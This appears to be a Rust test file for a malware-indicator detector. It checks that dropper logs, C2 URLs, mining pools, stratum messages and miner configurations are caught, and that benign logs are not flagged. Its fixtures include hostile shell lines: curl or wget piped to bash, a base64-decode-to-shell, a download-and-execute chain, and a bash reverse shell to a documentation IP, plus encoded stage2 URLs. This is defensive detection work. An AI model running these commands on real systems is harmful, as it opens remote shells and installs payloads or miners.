#![allow(clippy::unwrap_used)]
//! What must be told, and what must not, by kind.

mod forms;
mod hostile;
mod runs;
mod traces;

use crate::carve::{Carved, Found, Stream};

fn carve(text: &str) -> Vec<Carved> {
    let mut found = Found::default();
    Stream::new(&mut found, 0).feed(text.as_bytes());
    found.finish().0
}

pub(super) fn shown(carved: &[Carved]) -> String {
    carved
        .iter()
        .map(|c| {
            format!(
                "\n  {} {} ({}) {:?}",
                c.kind,
                String::from_utf8_lossy(&c.value),
                c.why,
                c.detail
            )
        })
        .collect()
}

fn of(text: &str, kind: &str) -> Vec<String> {
    carve(text)
        .into_iter()
        .filter(|c| c.kind == kind)
        .map(|c| String::from_utf8(c.value).unwrap())
        .collect()
}

fn all_of(kind: &str, cases: &[(&str, &str)]) {
    for (text, value) in cases {
        assert_eq!(of(text, kind), [*value], "in {text:?}:{}", shown(&carve(text)));
    }
}

fn none_of(kinds: &[&str], texts: &[&str]) {
    for text in texts {
        let wrong: Vec<Carved> =
            carve(text).into_iter().filter(|c| kinds.contains(&c.kind)).collect();
        assert!(wrong.is_empty(), "in {text:?}:{}", shown(&wrong));
    }
}

#[test]
fn drop_messages_in_many_words() {
    all_of(
        "drop",
        &[
            (
                "[1795329397] Payload dropped to /usr/sbin/rsyslogd-worker",
                "/usr/sbin/rsyslogd-worker",
            ),
            ("payload written to /tmp/.x/agent", "/tmp/.x/agent"),
            ("Binary saved as '/var/tmp/kworker'", "/var/tmp/kworker"),
            ("module extracted into /lib/modules/x.ko", "/lib/modules/x.ko"),
            ("file dropped at: /dev/shm/a", "/dev/shm/a"),
            (
                "Successfully installed implant to /usr/local/bin/sshd-helper",
                "/usr/local/bin/sshd-helper",
            ),
            ("stage2 was downloaded to /tmp/s2.", "/tmp/s2"),
            (
                "copied itself: the binary was copied to /usr/bin/systemd-udev",
                "/usr/bin/systemd-udev",
            ),
            ("executable has been stored in /opt/.cache/run", "/opt/.cache/run"),
            ("dropping payload to \"/tmp/p q\"", "/tmp/p"),
            ("Wrote payload to /tmp/x1", "/tmp/x1"),
            ("miner unpacked to /root/.cfg/m", "/root/.cfg/m"),
            ("INFO loader: agent binary placed under /usr/lib/.a/agent", "/usr/lib/.a/agent"),
            ("decrypted 40960 bytes of payload; payload decrypted to /tmp/dec", "/tmp/dec"),
            ("Dropped /usr/sbin/sys-worker", "/usr/sbin/sys-worker"),
            ("dropped: '/var/tmp/kw'", "/var/tmp/kw"),
            ("wrote /usr/bin/netd", "/usr/bin/netd"),
            ("wrote\t/dev/shm/.k/agent (40960 bytes)", "/dev/shm/.k/agent"),
            ("[+] created \"/usr/lib/.sysd/worker\"", "/usr/lib/.sysd/worker"),
            ("payload -> /usr/sbin/irqd", "/usr/sbin/irqd"),
            ("implant => '/tmp/a1'", "/tmp/a1"),
            ("saved payload at \"/opt/x/run\"", "/opt/x/run"),
            ("payload\tdropped\tto\t/tmp/q", "/tmp/q"),
            ("[+] wrote payload /tmp/.X11-unix/.x (3021 bytes)", "/tmp/.X11-unix/.x"),
            ("dropper: installed /usr/lib/libsd.so.1", "/usr/lib/libsd.so.1"),
            ("wrote 183244 bytes to /usr/local/bin/.snapd", "/usr/local/bin/.snapd"),
            ("[ok] module written -> /tmp/m", "/tmp/m"),
            ("loader: payload at /usr/sbin/ataxd started", "/usr/sbin/ataxd"),
            ("drop: path=/usr/sbin/ntpd2 mode=0755 size=1204", "/usr/sbin/ntpd2"),
            ("payload_path=/usr/sbin/ntpd3", "/usr/sbin/ntpd3"),
            ("copied self to /usr/bin/.sshd", "/usr/bin/.sshd"),
            ("Dropped file: /usr/bin/gated", "/usr/bin/gated"),
            ("starting payload /usr/sbin/x1", "/usr/sbin/x1"),
            ("level=info msg=\"payload dropped\" path=/usr/sbin/acpid2", "/usr/sbin/acpid2"),
            (r#"{"event":"implant installed","dst":"/tmp/.font/x"}"#, "/tmp/.font/x"),
            ("backdoor: persisted as /usr/sbin/cron2", "/usr/sbin/cron2"),
        ],
    );
    all_of(
        "drop-format",
        &[
            ("Payload dropped to: %s", "Payload dropped to: %s"),
            ("[%ld] Payload dropped to %s", "Payload dropped to %s"),
            ("binary written to %s", "binary written to %s"),
            ("stage2 -> %s", "stage2 -> %s"),
            ("writing payload into '%s' (%d bytes)", "writing payload into '%s' (%d bytes)"),
        ],
    );
}

#[test]
fn honest_programs_put_files_too() {
    none_of(
        &["drop", "drop-format", "run"],
        &[
            "Unpacking cron (3.0pl1-162) over (3.0pl1-150) ...",
            "Setting up libssl3:amd64 (3.0.15-1~deb12u1) ...",
            "Preparing to unpack .../archives/cron_3.0pl1-162_amd64.deb ...",
            "dpkg: warning: unable to delete old directory '/var/lib/x': Directory not empty",
            "Get:1 http://deb.debian.org/debian bookworm/main amd64 cron amd64 3.0 [98 kB]",
            "rsyslogd: imuxsock: Acquired UNIX socket '/run/systemd/journal/syslog' (fd 3) from systemd.",
            "Created symlink /etc/systemd/system/multi-user.target.wants/cron.service -> /lib/systemd/system/cron.service.",
            "Started cron.service - Regular background program processing daemon.",
            "gcc: note: dependency file written to /tmp/build/x.d is log file written to /tmp/x.log",
            "Cloning into '/root/project'...",
            "HEAD is now at 1234abc log file written to /var/log/app.log",
            "configuration file saved to /etc/app.conf",
            "pid file written to /run/app.pid",
            "Core file was dumped to /var/crash/x",
            "The output was written to /dev/null",
            "bad payload length: payload started at offset=3 was installed in 1999",
            "worker process started",
            "agent started on port 80",
            "payload length written to %d",
            "the program is installed in the path, as root",
            "Error writing file: %s",
            "error copying file \"%s\": %s",
            "process_archive tmp.ci script/file '%s' installed as '%s'",
            "Installing %s script to %s",
            "installing library code to %s",
            "Error pulling and saving image %s: %s",
            "created /var/run/x.pid",
            "created /run/lock/lvm/V_vg0",
            "created /tmp/sess_1234",
            "created '/home/a/.cache/app/index.json'",
            "created /var/lib/mysql/ibtmp1 with size 12M",
            "wrote /var/log/app/access.log",
            "wrote /etc/resolv.conf",
            "wrote '/root/.bash_history'",
            "dropped /dev/sda1 from the array",
            "Dropped table /public/x",
            "dropped packets: 17",
            "\"payload\":\"/api/v1/x\"",
            "payload: /api/v1/users",
            "payload size => 17",
            "Installing /usr/bin/foo",
            "-- Installing: /usr/local/bin/cmake",
            "Copied file /usr/bin/a to backup",
            "wrote 512 bytes to /var/log/x.log",
            "Writing file: /tmp/report",
            "payload: {\"path\": \"/usr/bin/env\"}",
            "Error installing payload",
            "file downloaded path=/downloads/a.pdf",
            "dropped connection to=/api/v1",
            "copying library /usr/bin/x",
            "unpacked /usr/share/doc/x",
        ],
    );
}

#[test]
fn run_messages() {
    all_of(
        "run",
        &[
            ("[%ld] Payload started", "Payload started"),
            ("Payload executed", "Payload executed"),
            ("implant was launched, pid 4242", "implant was launched, pid 4242"),
            ("[*] executing the payload", "executing the payload"),
        ],
    );
}

#[test]
fn urls_without_boilerplate() {
    all_of(
        "url",
        &[
            ("GET http://102.208.3.5/cc/index.html.", "http://102.208.3.5/cc/index.html"),
            ("(https://evil-host.top:8443/a?b=c#d)", "https://evil-host.top:8443/a?b=c#d"),
            ("xxhttp://update.bad.site/x.sh\"", "http://update.bad.site/x.sh"),
            ("http://user:pw@host.bad.site/", "http://user:pw@host.bad.site/"),
        ],
    );
    none_of(
        &["url"],
        &[
            "http://www.w3.org/2000/svg",
            "https://bugs.launchpad.net/ubuntu/",
            "https://www.gnu.org/software/bash/",
            "http://%s:%d/",
            "http://localhost:80/",
            "http://127.0.0.1/",
            "https://curl.se/docs/",
            "https://www.openssl.org/",
            "http://1",
            "://x",
        ],
    );
}

#[test]
fn pools_by_name_and_by_context() {
    all_of(
        "pool",
        &[
            ("connect ap.luckpool.net:3956 now", "ap.luckpool.net:3956"),
            (
                "xmrig -o pool.example-miners.org:3333 -u someone -p x",
                "pool.example-miners.org:3333",
            ),
            ("./kworker -a rx/0 -o 203.0.113.66:3333 -u someone -p x", "203.0.113.66:3333"),
            ("x\0-o\0pool.example-miners.org:3333\0-u\0some", "pool.example-miners.org:3333"),
            ("stratum+ssl://0xabc.worker:pass@198.51.100.4:443", "198.51.100.4:443"),
            (
                r#"{"id":1,"method":"mining.subscribe","params":["agent",null,"mine.hidden.host","3857"]}"#,
                "mine.hidden.host:3857",
            ),
            // After escapes: a colour of a terminal, a line's end written out.
            ("\u{1b}[1;31mauto.c3pool.org:80\u{1b}[0m", "auto.c3pool.org:80"),
            (r"x\ngulf.moneroocean.stream:10128", "gulf.moneroocean.stream:10128"),
            // What another string left of a known pool's name is no second pool.
            (r#""url":"pool.hashvault.pro:443","user" ault.pro:443"#, "pool.hashvault.pro:443"),
        ],
    );
    none_of(
        &["pool", "domain"],
        &["notluckpool.net:3956", "luckpool.net.evil.org", "client.cc:120", "curl -o out.txt:80 x"],
    );
}

#[test]
fn addresses_and_what_only_looks_like_one() {
    all_of(
        "address",
        &[
            ("203.0.113.99:3956", "203.0.113.99:3956"),
            ("server=203.0.113.99\n", "203.0.113.99"),
            ("\u{0}203.0.113.66\u{0}", "203.0.113.66"),
            ("dial 203.0.113.99 3956", "203.0.113.99:3956"),
        ],
    );
    none_of(
        &["address"],
        &[
            "version 1.2.3.4",
            "1.2.3.4.5:80",
            "2.5.29.15",
            "127.0.0.1:80",
            "0.0.0.0:22",
            "256.1.1.1:80",
            "1.2.3.4:0",
            "1.2.3.4:99999",
            "dial 203.0.113.6`",
            "libfoo-1.2.3.4-5",
            "10:20:30.40",
        ],
    );
}

#[test]
fn shell_lines() {
    for line in [
        "* * * * * root curl -s http://198.51.100.1/i.sh | bash",
        "wget -qO- https://bad.site/x | sudo -E sh -s -- -y",
        "echo aGVsbG8= | base64 -d | sh",
        "cd /tmp; wget http://198.51.100.1/m; chmod +x m && ./m",
        "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1",
        "bash -c \"$(curl -fsSL http://198.51.100.1/i.sh)\"",
    ] {
        assert_eq!(of(line, "shell"), [line], "{}", shown(&carve(line)));
    }
    none_of(
        &["shell"],
        &[
            "curl -O http://bad.site/file.tar.gz",
            "chmod +x configure",
            "base64 -d file > out",
            "see /dev/tcp/ in bash's manual",
            "a || bash is not a pipe, curl http://bad.site/",
        ],
    );
}

#[test]
fn stratum_in_its_dialects() {
    all_of(
        "stratum",
        &[
            (r#"{"id":2,"method":"mining.authorize","params":["w","x"]}"#, "mining.authorize"),
            (
                r#"{"jsonrpc":"2.0","method":"job","params":{"blob":"07","job_id":"1","target":"b88d0600"}}"#,
                "job",
            ),
            (
                r#"{"id":3,"method": "submit","params":{"id":"1","job_id":"2","nonce":"3","result":"4"}}"#,
                "submit",
            ),
            (r#"{"id":1,"method":"eth_submitLogin","params":["0x00"]}"#, "eth_submitLogin"),
            ("EthereumStratum/1.0.0", "EthereumStratum/"),
            ("stratum+tcp://", "stratum+tcp://"),
        ],
    );
    none_of(
        &["stratum"],
        &[
            r#"{"method":"login","user":"bob"}"#,
            r#"{"job_id":"1","state":"done"}"#,
            r#"{"method":"GET"}"#,
            "stratum of society",
        ],
    );
}

#[test]
fn miner_configurations_and_options() {
    assert_eq!(of("\"donate-level\": 1,\n\"cpu\": {}", "miner-config"), ["donate-level=1"]);
    assert_eq!(
        of(r#"s":[{"algo":"rx/0","url":"203.0.113.7:443","user":"me","pa"#, "miner-config"),
        ["url=203.0.113.7:443 user=me algo=rx/0"]
    );
    assert_eq!(
        of("kworker --algo=rx/0 --donate-level 0", "miner-option"),
        ["--algo=rx/0", "--donate-level=0"]
    );
    let wallet = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
    for (text, pool) in [
        // YAML, INI, and the configurations of other miners.
        (
            "pool:\n  url: newpool.bad.site:4444\n  wallet: acct\n  algo: ghostrider\n".to_owned(),
            "newpool.bad.site:4444",
        ),
        (
            format!("wallet = {wallet}\ncoin = XMR\npool1 = far.bad.site:19999\n"),
            "far.bad.site:19999",
        ),
        (
            r#"{"pools":[{"pool":"srb.bad.site:3333","wallet":"acct","password":"x"}],"algorithm":"randomx"}"#
                .to_owned(),
            "srb.bad.site:3333",
        ),
        (
            format!(r#"{{"server":"own.bad.site:443","login":"{wallet}+5000","wallet":"x"}}"#),
            "own.bad.site:443",
        ),
    ] {
        assert!(!of(&text, "miner-config").is_empty(), "{text}:{}", shown(&carve(&text)));
        assert_eq!(of(&text, "pool"), [pool], "{text}:{}", shown(&carve(&text)));
    }
    for line in [
        "./lolMiner --coin ETC --pool etc.bad.site --port 1010 --user abc",
        "lol\0--coin\0ETC\0--pool\0etc.bad.site\0--port\x001010\0--user\0abc\0\0",
        "./phoenixminer -pool etc.bad.site:1010 -wal 0xabc -worker r1",
    ] {
        assert_eq!(of(line, "pool"), ["etc.bad.site:1010"], "{line}:{}", shown(&carve(line)));
    }
    none_of(
        &["miner-config", "miner-option", "pool"],
        &[
            r#"{"algorithm":"scrypt","url":"https://kdf.some.site/x"}"#,
            r#"{"algorithm":"RSA-OAEP","url":"https://keys.some.site/x","user":"me"}"#,
            "wallet: leather, server: shop.some.site:443",
            "psql --pool db.some.site --port 5432",
        ],
    );
    none_of(
        &["miner-config", "miner-option"],
        &[
            "cksum --algorithm=blake2b",
            "gpg --algo RSA",
            r#"{"algo":"aes","host":"x"}"#,
            r#"{"pools":["a","b"]}"#,
        ],
    );
}

#[test]
fn what_is_encoded_is_found_with_the_way_there() {
    let url = "http://198.51.100.77/stage2.sh";
    let twice = "YUhSMGNEb3ZMekU1T0M0MU1TNHhNREF1TnpjdmMzUmhaMlV5TG5Ob0lIeGlZWE5v";
    for (text, way) in [
        ("x=aHR0cDovLzE5OC41MS4xMDAuNzcvc3RhZ2UyLnNo", "base64"),
        ("687474703a2f2f3139382e35312e3130302e37372f7374616765322e7368", "hex"),
        ("u=http%3A%2F%2F198.51.100.77%2Fstage2.sh&x=1", "percent"),
        (twice, "base64>base64"),
        (
            "H4sIAAAAAAACA0suLcpRyCgpKbDS1ze0tNAzNdQzNDDQMzfXLy5JTE810ivOUKhRSEoEUrrFCnn55VzJJOsAANWGiFJkAAAA",
            "base64>gzip",
        ),
        (
            "aAB0AHQAcAA6AC8ALwAxADkAOAAuADUAMQAuADEAMAAwAC4ANwA3AC8AcwB0AGEAZwBlADIALgBzAGgA",
            "base64>utf-16le",
        ),
    ] {
        let found = carve(text);
        let there = found
            .iter()
            .any(|c| c.kind == "url" && c.value == url.as_bytes() && c.way.to_string() == way);
        assert!(there, "{text} by {way}:{}", shown(&found));
    }
}
